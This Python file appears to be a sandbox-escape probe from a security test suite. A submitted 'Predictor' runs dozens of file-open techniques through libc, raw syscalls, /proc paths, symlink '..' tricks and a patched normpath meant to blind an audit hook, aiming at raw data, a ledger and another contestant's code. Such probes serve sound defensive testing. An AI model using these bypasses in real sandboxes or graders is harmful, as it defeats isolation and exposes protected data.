"""Opens raw files by libc and by system call numbers, which the interpreter's hook does not see (A-02).

Against it: modes, mounts, Landlock. Incidents: CPython gh-87604 (an audit hook is no sandbox), runc CVE-2024-21626.
"""

import ctypes
import os
import posixpath
import sys

from toolbox import HERE, TARGETS, attempt, checked, libc, number, syscall

LENGTH = 300
RAW = TARGETS["raw_file"]
PATH = os.fsencode(RAW)
FOLDER = os.fsencode(TARGETS["raw_root"])
NAME = os.fsencode(os.path.basename(RAW))
AT_FDCWD = -100
O_PATH = 0x200000
OPEN = number(2)
OPENAT = number(257, 56)
OPENAT2 = number(437, 437)
OPEN_TREE = number(428, 428)
NAME_TO_HANDLE = number(303, 264)
OPEN_BY_HANDLE = number(304, 265)
READ = number(0, 63)
PREAD = number(17, 67)
SPLICE = number(275, 76)
SENDFILE = number(40, 71)
PIPE2 = number(293, 59)


class How(ctypes.Structure):
    _fields_ = (("flags", ctypes.c_uint64), ("mode", ctypes.c_uint64), ("resolve", ctypes.c_uint64))


class Handle(ctypes.Structure):
    _fields_ = (("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_char * 128))


def taken(fd):
    """The first bytes behind a descriptor, by the read call's number."""
    kept = ctypes.create_string_buffer(LENGTH)
    count = syscall(READ, fd, kept, LENGTH)
    os.close(fd)
    return kept.raw[:count] or None


def by_libc(name, *args):
    return lambda: taken(checked(getattr(libc, name)(*args)))


def by_number(call, *args):
    return lambda: taken(syscall(call, *args))


def by_fopen():
    libc.fopen.restype = ctypes.c_void_p
    file = ctypes.c_void_p(checked(libc.fopen(PATH, b"r")))
    kept = ctypes.create_string_buffer(LENGTH)
    count = libc.fread(kept, 1, LENGTH, file)
    libc.fclose(file)
    return kept.raw[:count]


def by_getline():
    libc.fopen64.restype = ctypes.c_void_p
    file = ctypes.c_void_p(checked(libc.fopen64(PATH, b"rm")))
    line, size = ctypes.c_char_p(), ctypes.c_size_t()
    libc.getline(ctypes.byref(line), ctypes.byref(size), file)
    libc.fclose(file)
    return line.value


def by_openat2():
    how = How(os.O_RDONLY, 0, 0)
    return taken(syscall(OPENAT2, AT_FDCWD, PATH, ctypes.byref(how), ctypes.sizeof(how)))


def by_mmap():
    libc.mmap.restype = ctypes.c_void_p
    fd = checked(libc.open(PATH, os.O_RDONLY))
    address = checked(libc.mmap(None, ctypes.c_size_t(4_096), 1, 2, fd, ctypes.c_long(0)))
    return ctypes.string_at(address, os.fstat(fd).st_size)[:LENGTH]


def by_pread():
    fd, kept = syscall(OPENAT, AT_FDCWD, PATH, os.O_RDONLY, 0), ctypes.create_string_buffer(LENGTH)
    count = syscall(PREAD, fd, kept, LENGTH, 0)
    return kept.raw[:count]


def by_sendfile():
    fd = syscall(OPENAT, AT_FDCWD, PATH, os.O_RDONLY, 0)
    count = syscall(SENDFILE, 1, fd, 0, LENGTH)
    os.write(1, b"\n")
    return f"{count} bytes to stdout"


def by_splice():
    fd, ends = syscall(OPENAT, AT_FDCWD, PATH, os.O_RDONLY, 0), (ctypes.c_int * 2)()
    syscall(PIPE2, ends, 0)
    return os.read(ends[0], syscall(SPLICE, fd, 0, ends[1], 0, LENGTH, 0))


def by_path_descriptor():
    fd = syscall(OPENAT, AT_FDCWD, PATH, O_PATH, 0)
    return taken(checked(libc.open(b"/proc/self/fd/%d" % fd, os.O_RDONLY)))


def by_thread_descriptor():
    fd = syscall(OPENAT, AT_FDCWD, PATH, O_PATH, 0)
    return taken(checked(libc.open(b"/proc/thread-self/fd/%d" % fd, os.O_RDONLY)))


def by_folder():
    folder = syscall(OPENAT, AT_FDCWD, FOLDER, O_PATH | os.O_DIRECTORY, 0)
    return taken(syscall(OPENAT, folder, NAME, os.O_RDONLY, 0))


def by_tree():
    folder = syscall(OPEN_TREE, AT_FDCWD, FOLDER, os.O_CLOEXEC)
    return taken(syscall(OPENAT, folder, NAME, os.O_RDONLY, 0))


def by_working_folder():
    before = os.getcwd()
    checked(libc.chdir(FOLDER))
    try:
        return taken(checked(libc.open(NAME, os.O_RDONLY)))
    finally:
        os.chdir(before)


def by_handle():
    handle, mount = Handle(128), ctypes.c_int()
    syscall(NAME_TO_HANDLE, AT_FDCWD, PATH, ctypes.byref(handle), ctypes.byref(mount), 0)
    place = checked(libc.open(os.fsencode(HERE), os.O_RDONLY))
    return taken(syscall(OPEN_BY_HANDLE, place, ctypes.byref(handle), os.O_RDONLY))


def by_hook_made_blind():
    """Python's own open, after the hook's way of making a path whole was replaced."""
    before = posixpath.normpath
    posixpath.normpath = lambda path: os.path.join(HERE, "predictor.py")
    try:
        with open(RAW, "rb") as file:
            return file.read(LENGTH)
    finally:
        posixpath.normpath = before


def depth(path):
    return path.rstrip("/").count("/")


def rising_link():
    """A link to a folder, below the libraries, that leads nearer to the root than its name stands, by the depth of the libraries."""
    for root in ("/usr/lib", sys.prefix, sys.base_prefix):
        for place, names, _ in os.walk(root):
            for name in names:
                link = os.path.join(place, name)
                if os.path.islink(link) and depth(os.path.realpath(link)) <= depth(link) - depth(root):
                    return link
            if depth(place) > depth(root) + 3:
                names.clear()
    raise FileNotFoundError("no link that rises")


def by_link_then_dotdot():
    """A path that reads as below a library folder and resolves to a raw file: `..` behind a link is not what it looks."""
    link = rising_link()
    path = link + "/.." * depth(os.path.realpath(link)) + RAW
    with open(path, "rb") as file:
        return file.read(LENGTH)


DOORS = {
    "libc_open": by_libc("open", PATH, os.O_RDONLY),
    "libc_open64": by_libc("open64", PATH, os.O_RDONLY),
    "libc_openat": by_libc("openat", AT_FDCWD, PATH, os.O_RDONLY),
    "libc_fopen": by_fopen,
    "libc_getline": by_getline,
    "libc_mmap": by_mmap,
    "raw_open": by_number(OPEN, PATH, os.O_RDONLY, 0),
    "raw_openat": by_number(OPENAT, AT_FDCWD, PATH, os.O_RDONLY, 0),
    "raw_openat2": by_openat2,
    "open_by_handle": by_handle,
    "pread": by_pread,
    "sendfile": by_sendfile,
    "splice": by_splice,
    "path_descriptor": by_path_descriptor,
    "thread_descriptor": by_thread_descriptor,
    "folder_descriptor": by_folder,
    "open_tree": by_tree,
    "working_folder": by_working_folder,
    "dotdot": by_libc("open", os.fsencode(TARGETS["raw_dotdot"]), os.O_RDONLY),
    "link": by_libc("open", os.fsencode(TARGETS["raw_link"]), os.O_RDONLY),
    "link_raw": by_number(OPENAT, AT_FDCWD, os.fsencode(TARGETS["raw_link"]), os.O_RDONLY, 0),
    "proc_root": by_libc("open", b"/proc/self/root" + PATH, os.O_RDONLY),
    "proc_server": by_libc("open", b"/proc/%d/root%b" % (TARGETS["server_pid"], PATH), os.O_RDONLY),
    "proc_parent": by_libc("open", b"/proc/%d/root%b" % (os.getppid(), PATH), os.O_RDONLY),
    "csv": by_libc("open", os.fsencode(TARGETS["raw_csv"]), os.O_RDONLY),
    "ledger": by_libc("open", os.fsencode(TARGETS["ledger"]), os.O_RDONLY),
    "sibling": by_libc("open", os.fsencode(TARGETS["sibling"]) + b"/predictor.py", os.O_RDONLY),
    "hook_made_blind": by_hook_made_blind,
    "link_then_dotdot": by_link_then_dotdot,
}


class Predictor:
    def predict(self, view):
        if view.anchor == 0:
            for name, act in DOORS.items():
                attempt(name, act)
        return 0.5
